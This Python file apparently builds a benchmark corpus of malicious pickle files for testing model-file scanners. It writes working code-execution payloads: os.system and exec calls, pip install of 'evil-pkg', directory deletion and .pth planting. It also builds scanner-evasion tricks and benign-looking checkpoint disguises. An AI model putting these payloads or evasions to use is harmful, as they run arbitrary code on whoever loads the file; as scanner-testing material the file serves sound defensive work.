"""Malicious raw pickles, each written opcode by opcode (never produced by pickling an object)."""

from __future__ import annotations

import marshal
import struct
from collections.abc import Callable
from typing import Any

from _corpus import CMD, Corpus
from _pkl import EXT1, EXT2, EXT4, Build, Call, G, NewObj, Obj, Put, Raw, Seq, body, dump

SYSTEM = G("os", "system")
PY = "__import__('os').system(" + repr(CMD) + ")"
BENIGN_TAIL = {"weight": [0.5, 0.25], "epoch": 3}
"""What a payload stream finally returns, so the file looks like a checkpoint when loaded."""


def _ret(*side: Any) -> Seq:
    """Run the side effects, then return an ordinary-looking dict."""
    return Seq((*side, BENIGN_TAIL))


def _getattr(obj: Any, name: str) -> Call:
    return Call(G("builtins", "getattr"), (obj, name))


def _import(mod: str) -> Call:
    return Call(G("builtins", "__import__"), (mod,))


def _code_bytes() -> bytes:
    """A marshalled code object (compiled, never run) for the marshal/FunctionType chains."""
    return marshal.dumps(compile(PY, "<bench>", "exec"))


# Each entry: technique id -> (list of (suffix, protocol, expression, frame), description, source)
Spec = tuple[list[tuple[str, int, Any, bool]], str, str]


def _specs() -> dict[str, Spec]:
    s: dict[str, Spec] = {}
    s["pkl-os-system-reduce"] = (
        [(f"p{p}.pkl", p, _ret(Call(SYSTEM, (CMD,))), p >= 4) for p in range(6)],
        "GLOBAL/STACK_GLOBAL os.system + REDUCE, one file per protocol 0-5", "classic")
    s["pkl-posix-system"] = ([("p2.pkl", 2, Call(G("posix", "system"), (CMD,)), False)],
                             "posix.system (the module os.system really lives in)",
                             "CVE-2025-10155 write-up")
    s["pkl-nt-system"] = ([("p1.pkl", 1, Call(G("nt", "system"), (CMD,)), False)],
                          "nt.system (Windows spelling of os.system)", "modelaudit PR 605")
    s["pkl-subprocess-popen"] = (
        [("p3.pkl", 3, Call(G("subprocess", "Popen"), (["/bin/sh", "-c", CMD],)), False)],
        "subprocess.Popen with an argv list", "classic")
    s["pkl-subprocess-check-output"] = (
        [("p4.pkl", 4, Call(G("subprocess", "check_output"), (CMD,), ), True)],
        "subprocess.check_output", "classic")
    s["pkl-builtins-exec"] = ([("p4.pkl", 4, Call(G("builtins", "exec"), (PY,)), True)],
                              "builtins.exec of Python source via STACK_GLOBAL", "classic")
    s["pkl-builtins-eval"] = ([("p5.pkl", 5, Call(G("builtins", "eval"), (PY.replace(
        "__import__('os').system", "__import__('os').system"),)), True)],
        "builtins.eval, protocol 5 with FRAME", "classic")
    s["pkl-builtins-compile-exec"] = (
        [("p2.pkl", 2, Call(G("builtins", "exec"), (
            Call(G("builtins", "compile"), (PY, "<x>", "exec")),)), False)],
        "builtins.compile then exec of the code object", "classic")
    s["pkl-builtins-import-getattr"] = (
        [("p2.pkl", 2, Call(_getattr(_import("os"), "system"), (CMD,)), False),
         ("p0.pkl", 0, Call(_getattr(_import("os"), "system"), (CMD,)), False)],
        "builtins.__import__('os') then builtins.getattr(...,'system')", "classic")
    s["pkl-getattr-chain"] = (
        [("p4.pkl", 4, Call(_getattr(_getattr(_import("subprocess"), "os"), "system"), (CMD,)),
          True)],
        "getattr chain: __import__('subprocess').os.system", "modelscan issue 89")
    # names taken from the memo: the strings are memoised first, fetched back for STACK_GLOBAL
    memo_stream = Seq((Put("posix", 1), Put("system", 2),
                       Call(Raw(b"h\x01h\x02\x93"), (CMD,)), BENIGN_TAIL))
    s["pkl-stack-global-memo"] = ([("p4.pkl", 4, memo_stream, True)],
                                  "STACK_GLOBAL whose module/name come from BINGET memo slots",
                                  "picklescan GHSA-9gvj-pp9x-gcfr class")
    # names assembled on the stack: module name computed by operator.add('o','s')
    built = Raw(body(Call(G("_operator", "add"), ("o", "s")), 4) + body("system", 4) + b"\x93")
    s["pkl-stack-global-computed"] = ([("p4.pkl", 4, Call(built, (CMD,)), True)],
                                      "STACK_GLOBAL with module name built at load time "
                                      "(_operator.add('o','s'))", "obfuscation")
    s["pkl-inst-opcode"] = ([("p0.pkl", 0, Obj(G("os", "system"), (CMD,), inst=True), False)],
                            "INST opcode (protocol 0) instantiates os.system(cmd)", "classic")
    s["pkl-obj-opcode"] = ([("p1.pkl", 1, Obj(G("subprocess", "getoutput"), (CMD,)), False)],
                           "OBJ opcode calling subprocess.getoutput", "classic")
    partial_new = NewObj(G("functools", "partial"), (SYSTEM, CMD))
    s["pkl-newobj-partial"] = ([("p2.pkl", 2, Call(partial_new, ()), False)],
                               "NEWOBJ builds functools.partial(os.system, cmd), REDUCE calls it",
                               "fickling PR 210 (functools.partial wrapper)")
    s["pkl-newobj-ex-partial"] = (
        [("p4.pkl", 4, Call(NewObj(G("functools", "partial"), (G("subprocess", "run"),),
                                   {"shell": True}), (CMD,)), True)],
        "NEWOBJ_EX builds partial(subprocess.run, shell=True), REDUCE calls it", "obfuscation")
    ns = NewObj(G("types", "SimpleNamespace"), ())
    setstate = Build(Build(ns, (None, {"__setstate__": SYSTEM})), CMD)
    s["pkl-build-setstate"] = ([("p2.pkl", 2, setstate, False), ("p4.pkl", 4, setstate, True)],
                               "BUILD slot-state sets __setstate__=os.system on an instance, a "
                               "second BUILD calls it", "known BUILD trick")
    for op, tag, code in ((EXT1, "ext1", 0xF1), (EXT2, "ext2", 0x1F2), (EXT4, "ext4", 0x1F3F4)):
        reg = Call(G("copyreg", "add_extension"), ("os", "system", code))
        arg = bytes([code]) if op == EXT1 else code.to_bytes(2 if op == EXT2 else 4, "little")
        s[f"pkl-{tag}-registry"] = (
            [("p2.pkl", 2, Seq((reg, Call(Raw(op + arg), (CMD,)), BENIGN_TAIL)), False)],
            f"copyreg.add_extension registers os.system, then {tag.upper()} fetches it by code",
            "extension registry")
    inner = dump(Call(SYSTEM, (CMD,)), 2)
    s["pkl-nested-pickle-loads"] = ([("p3.pkl", 3, _ret(Call(G("pickle", "loads"), (inner,))),
                                      False)],
                                    "pickle.loads of an inner malicious pickle",
                                    "fickling GHSA-84r2-jw7c-4r5q")
    inner5 = dump(Call(G("builtins", "exec"), (PY,)), 5, frame=True)
    s["pkl-nested-_pickle-loads"] = ([("p4.pkl", 4, _ret(Call(G("_pickle", "loads"), (inner5,))),
                                       True)],
                                     "_pickle.loads of an inner protocol-5 exec pickle",
                                     "nested pickle")
    dbl = dump(Call(G("_pickle", "loads"), (inner,)), 3)
    s["pkl-nested-double"] = ([("p3.pkl", 3, Call(G("pickle", "loads"), (dbl,)), False)],
                              "pickle inside a pickle inside a pickle", "nested pickle")
    s["pkl-nested-io-load"] = (
        [("p3.pkl", 3, Call(G("pickle", "load"), (Call(G("io", "BytesIO"), (inner,)),)), False)],
        "pickle.load(io.BytesIO(inner))", "nested pickle")
    s["pkl-runpy-run-code"] = (
        [("p2.pkl", 2, Call(G("runpy", "_run_code"), (
            Call(G("builtins", "compile"), (PY, "<x>", "exec")), {})), False)],
        "runpy._run_code(code, globals)", "unlisted callable")
    s["pkl-pydoc-pipepager"] = ([("p2.pkl", 2, Call(G("pydoc", "pipepager"), ("x", CMD)), False)],
                                "pydoc.pipepager(text, cmd) runs cmd in a shell",
                                "unlisted callable")
    interp = Call(G("code", "InteractiveInterpreter"), ())
    s["pkl-code-interpreter-runsource"] = (
        [("p4.pkl", 4, Call(G("code", "InteractiveInterpreter.runsource"), (interp, PY)), True)],
        "code.InteractiveInterpreter.runsource (dotted name, protocol 4)",
        "picklescan GHSA (code.InteractiveInterpreter)")
    s["pkl-cprofile-run"] = ([("p2.pkl", 2, Call(G("cProfile", "run"), (PY,)), False)],
                             "cProfile.run(statement)", "picklescan GHSA-9w88-8rmg-7g2p family")
    s["pkl-profile-run"] = (
        [("p4.pkl", 4, Call(G("profile", "Profile.run"),
                            (Call(G("profile", "Profile"), ()), PY)), True)],
        "profile.Profile.run (dotted)", "picklescan GHSA-x696-vm39-cp64")
    s["pkl-trace-run"] = (
        [("p4.pkl", 4, Call(G("trace", "Trace.run"), (Call(G("trace", "Trace"), ()), PY)), True)],
        "trace.Trace.run (dotted)", "picklescan GHSA-5qwp-399c-mjwf")
    s["pkl-timeit"] = ([("p2.pkl", 2, Call(G("timeit", "timeit"), (PY, "pass", None, 1)), False)],
                       "timeit.timeit(stmt, number=1)", "picklescan GHSA-v7x6-rv5q-mhwc")
    s["pkl-doctest-debug-script"] = (
        [("p2.pkl", 2, Call(G("doctest", "debug_script"), (PY,)), False)],
        "doctest.debug_script(src)", "picklescan GHSA-fqq6-7vqf-w3fg")
    s["pkl-numpy-runstring"] = (
        [("p2.pkl", 2, Call(G("numpy.testing._private.utils", "runstring"), (PY, {})), False)],
        "numpy.testing._private.utils.runstring(src, dict)", "unlisted callable")
    s["pkl-numpy-f2py-eval"] = (
        [("p2.pkl", 2, Call(G("numpy.f2py.crackfortran", "_eval_length"), (PY, {})), False)],
        "numpy.f2py.crackfortran._eval_length reaches eval", "fickling PR 210")
    s["pkl-torch-load-chain"] = (
        [("p2.pkl", 2, Call(G("torch.serialization", "load"), ("/tmp/next-stage.pt",),), False),
         ("p4.pkl", 4, Call(G("torch", "load"), ("/tmp/next-stage.pt", None, None, False)), True)],
        "torch.serialization.load / torch.load(weights_only=False) of a second-stage file",
        "chain")
    attr = Call(Call(G("operator", "attrgetter"), ("system",)),
                (Call(G("importlib", "import_module"), ("os",)),))
    s["pkl-operator-attrgetter"] = ([("p2.pkl", 2, Call(attr, (CMD,)), False)],
                                    "operator.attrgetter('system')(importlib.import_module('os'))",
                                    "picklescan GHSA-m273-6v24-x4m4")
    mc = Call(Call(G("_operator", "methodcaller"), ("system", CMD)), (_import("os"),))
    s["pkl-operator-methodcaller"] = ([("p2.pkl", 2, mc, False)],
                                      "_operator.methodcaller('system', cmd)(os)",
                                      "picklescan GHSA-955r-x9j8-7rhh")
    s["pkl-functools-partial"] = (
        [("p2.pkl", 2, Call(Call(G("functools", "partial"), (SYSTEM, CMD)), ()), False)],
        "functools.partial(os.system, cmd)()", "fickling PR 210")
    s["pkl-importlib-import-module"] = (
        [("p2.pkl", 2, Call(_getattr(Call(G("importlib", "import_module"), ("os",)), "system"),
                            (CMD,)), False)],
        "importlib.import_module('os') + getattr", "picklescan issue 66")
    s["pkl-pkgutil-resolve-name"] = (
        [("p2.pkl", 2, Call(Call(G("pkgutil", "resolve_name"), ("os:system",)), (CMD,)), False)],
        "pkgutil.resolve_name('os:system') universal bypass", "picklescan GHSA-vvpj-8cmc-gx39")
    s["pkl-ctypes"] = (
        [("p2.pkl", 2, Call(_getattr(Call(G("ctypes", "CDLL"), (None,)), "system"),
                            (CMD.encode(),)), False)],
        "ctypes.CDLL(None).system(cmd): libc straight from a pickle", "unlisted callable")
    s["pkl-shutil-rmtree"] = ([("p2.pkl", 2, _ret(Call(G("shutil", "rmtree"), ("/tmp/victim",))),
                                False)], "shutil.rmtree of a directory", "destructive")
    s["pkl-webbrowser-open"] = ([("p2.pkl", 2, Call(G("webbrowser", "open"),
                                                    ("http://127.0.0.1:9/x",)), False)],
                                "webbrowser.open (launches a process)", "unlisted callable")
    s["pkl-asyncio-subprocess"] = (
        [("p4.pkl", 4, Call(G("asyncio.unix_events", "_UnixSubprocessTransport._start"),
                            (None, CMD, True, None, None, None, 0)), True),
         ("p2.pkl", 2, Call(G("asyncio.subprocess", "create_subprocess_shell"), (CMD,)), False)],
        "asyncio internals that spawn processes (submodule not on module-level lists)",
        "CVE-2025-10157")
    s["pkl-sys-modules-lookup"] = (
        [("p4.pkl", 4, Call(_getattr(Call(G("sys", "modules.get"), ("os",)), "system"), (CMD,)),
          True)],
        "sys.modules.get('os') via a dotted STACK_GLOBAL name", "modelscan issue 89")
    s["pkl-dotted-traversal"] = (
        [("p4.pkl", 4, Call(G("collections", "abc.sys.modules.get"), ("os",)), True),
         ("p4b.pkl", 4, Call(_getattr(Call(G("numpy", "core._internal.sys.modules.get"),
                                           ("posix",)), "system"), (CMD,)), True)],
        "dotted names that walk from an allowed module into sys.modules", "modelscan issue 89")
    s["pkl-builtins-dict-get"] = (
        [("p4.pkl", 4, Call(Call(G("builtins", "dict.get"), (G("numpy", "__builtins__"), "exec")),
                            (PY,)), True)],
        "builtins.dict.get(numpy.__builtins__, 'exec')", "modelscan issue 89")
    s["pkl-pip-main"] = ([("p2.pkl", 2, Call(G("pip", "main"), (["install", "evil-pkg"],)),
                           False)], "pip.main(['install', ...])", "CVE-2025-1716")
    s["pkl-ensurepip-run-pip"] = ([("p2.pkl", 2, Call(G("ensurepip", "_run_pip"),
                                                      (["install", "evil-pkg"],)), False)],
                                  "ensurepip._run_pip", "picklescan GHSA-xp4f-hrf8-rxw7")
    s["pkl-idlelib-runcode"] = (
        [("p4.pkl", 4, Call(G("idlelib.pyshell", "ModifiedInterpreter.runcode"), (None, PY)),
          True)],
        "idlelib.pyshell.ModifiedInterpreter.runcode", "picklescan GHSA-3gf5-cxq9-w223")
    s["pkl-uuid-command"] = ([("p2.pkl", 2, Call(G("uuid", "_get_command_stdout"),
                                                 ("sh", "-c", CMD)), False)],
                             "uuid._get_command_stdout runs a command", "CVE-2026-56315")
    s["pkl-marshal-function"] = (
        [("p3.pkl", 3, Call(Call(G("types", "FunctionType"),
                                 (Call(G("marshal", "loads"), (_code_bytes(),)), {})), ()), False)],
        "marshal.loads(code) wrapped in types.FunctionType and called", "picklescan PR 74")
    s["pkl-file-write"] = (
        [("p3.pkl", 3, Call(_getattr(Call(G("builtins", "open"), ("/tmp/x.pth", "w")), "write"),
                            ("import os; os.system('id')\n",)), False),
         ("p2.pkl", 2, Call(G("distutils.file_util", "write_file"), ("/tmp/x.pth", ["x"])), False)],
        "file write (builtins.open(...).write / distutils.file_util.write_file) planting a .pth",
        "CVE-2025-10156 write-up")
    s["pkl-os-exec-family"] = (
        [("p2.pkl", 2, Call(G("os", "execvp"), ("sh", ["sh", "-c", CMD])), False),
         ("p4.pkl", 4, Call(G("pty", "spawn"), (["sh", "-c", CMD],)), True),
         ("p1.pkl", 1, Call(G("os", "popen"), (CMD,)), False)],
        "os.execvp / pty.spawn / os.popen", "classic")
    s["pkl-payload-discarded"] = (
        [("p2.pkl", 2, Seq((Call(SYSTEM, (CMD,)), {"a": 1})), False)],
        "result of the payload is POPped and a benign dict is returned", "heuristics evasion")
    return s


def _broken(c: Corpus) -> None:
    payload = body(Call(SYSTEM, (CMD,)), 2)
    tail = body({"w": 1.0}, 2)
    variants = {
        "truncated.pkl": b"\x80\x02" + payload + tail[: len(tail) // 2],
        "bad-opcode.pkl": b"\x80\x02" + payload + b"0" + b"\xff\xfe" + tail + b".",
        "no-stop.pkl": b"\x80\x02" + payload + b"0" + tail,
    }
    descs = {
        "truncated.pkl": "payload REDUCE, then the stream is cut mid-opcode",
        "bad-opcode.pkl": "payload REDUCE, then an invalid opcode 0xff",
        "no-stop.pkl": "payload REDUCE, complete data, but no STOP opcode",
    }
    for name, data in variants.items():
        c.mal(f"malicious/pickle/pkl-broken-stream/{name}", data, "pkl-broken-stream", "pickle",
              descs[name] + " (the loader has already run the payload)", "fickling/picklescan")
    multi = dump(BENIGN_TAIL, 2) + dump(Call(SYSTEM, (CMD,)), 2)
    c.mal("malicious/pickle/pkl-second-stream/two.pkl", multi, "pkl-second-stream", "pickle",
          "a benign pickle followed by a second, malicious pickle in the same file", "stacked")


def _odd_ext(c: Corpus) -> None:
    p0 = dump(Call(SYSTEM, (CMD,)), 0)
    for name in ("weights.bin", "model.dat", "config.json", "README"):
        c.mal(f"malicious/pickle/pkl-odd-extension/{name}", p0, "pkl-odd-extension", "pickle",
              f"protocol-0 pickle (no PROTO magic) saved as {name}",
              "CVE-2025-10155, CVE-2025-1889")


def _evasions(c: Corpus) -> None:
    """Streams that stress a scanner's bounds and string handling rather than its name list."""
    d = "malicious/pickle"
    call = body(Call(G("posix", "system"), (CMD,)), 4)
    depth = 100_000
    deep = b"\x80\x04" + b"(" * depth + call + b"l" * depth + b"."
    c.mal(f"{d}/pkl-deep-nesting/deep.pkl", deep, "pkl-deep-nesting", "pickle",
          f"payload at the bottom of {depth:,} nested lists (recursive analysers overflow)",
          "bounds")
    blob = b"\0" * (20 * 2**20)
    big = (b"\x80\x04" + b"\x8e" + struct.pack("<Q", len(blob)) + blob + b"0" + call + b"0"
           + body(BENIGN_TAIL, 4) + b".")
    c.mal(f"{d}/pkl-after-large-blob/model.pkl", big, "pkl-after-large-blob", "pickle",
          "20 MiB BINBYTES8 blob first, payload after it (windowed scanners stop early)",
          "ModelAudit bounded raw window")
    esc = (b"V\\u006f\\u0073\n" + b"V\\u0073ystem\n" + b"\x93" + b"(V" + CMD.encode()
           + b"\ntR.")
    c.mal(f"{d}/pkl-unicode-escaped-names/p0.pkl", esc, "pkl-unicode-escaped-names", "pickle",
          "no PROTO header; module/name written as raw-unicode-escape UNICODE strings "
          "(\\u006f\\u0073 = os) and resolved by STACK_GLOBAL: no 'os' bytes in the file",
          "string-matching evasion")
    reuse = (b"cposix\nsystem\np7\n0" + body({"w": [1.0, 2.0]}, 0) + b"0"
             + b"g7\n(V" + CMD.encode() + b"\ntR0" + body(BENIGN_TAIL, 0) + b".")
    c.mal(f"{d}/pkl-memo-callable-reuse/p0.pkl", reuse, "pkl-memo-callable-reuse", "pickle",
          "os.system stored in the memo and popped, benign data, then fetched with GET and "
          "called far from its GLOBAL", "memo obfuscation")
    npl = dump(Call(G("numpy", "load"), ("/tmp/stage2.npy", None, True)), 2)
    c.mal(f"{d}/pkl-numpy-load-chain/p2.pkl", npl, "pkl-numpy-load-chain", "pickle",
          "numpy.load(path, allow_pickle=True) of a second-stage file", "nltk GHSA-c59x-vh6j-3w8v")
    patch = Seq((Build(G("torch", "_utils"), (None, {"_rebuild_tensor_v2": G("posix", "system")})),
                 Call(G("torch._utils", "_rebuild_tensor_v2"), (CMD,)), BENIGN_TAIL))
    c.mal(f"{d}/pkl-build-monkeypatch/p2.pkl", dump(patch, 2), "pkl-build-monkeypatch", "pickle",
          "BUILD on the torch._utils module object rebinds _rebuild_tensor_v2 to posix.system, "
          "then the 'allowlisted' name is called", "allowlist poisoning")


def build(c: Corpus) -> None:
    """Write every malicious raw-pickle technique."""
    for tech, (files, desc, src) in _specs().items():
        for suffix, proto, expr, frame in files:
            c.mal(f"malicious/pickle/{tech}/{suffix}", dump(expr, proto, frame=frame), tech,
                  "pickle", desc + f" (protocol {proto})", src)
    _broken(c)
    _odd_ext(c)
    _evasions(c)


EXPRESSIONS: dict[str, Callable[[], bytes]] = {
    "system2": lambda: dump(Call(SYSTEM, (CMD,)), 2),
    "system4": lambda: dump(Call(SYSTEM, (CMD,)), 4, frame=True),
    "exec2": lambda: dump(Call(G("builtins", "exec"), (PY,)), 2),
    "runpy2": lambda: dump(Call(G("runpy", "_run_code"), (
        Call(G("builtins", "compile"), (PY, "<x>", "exec")), {})), 2),
}
"""Payload pickles reused by the container techniques."""

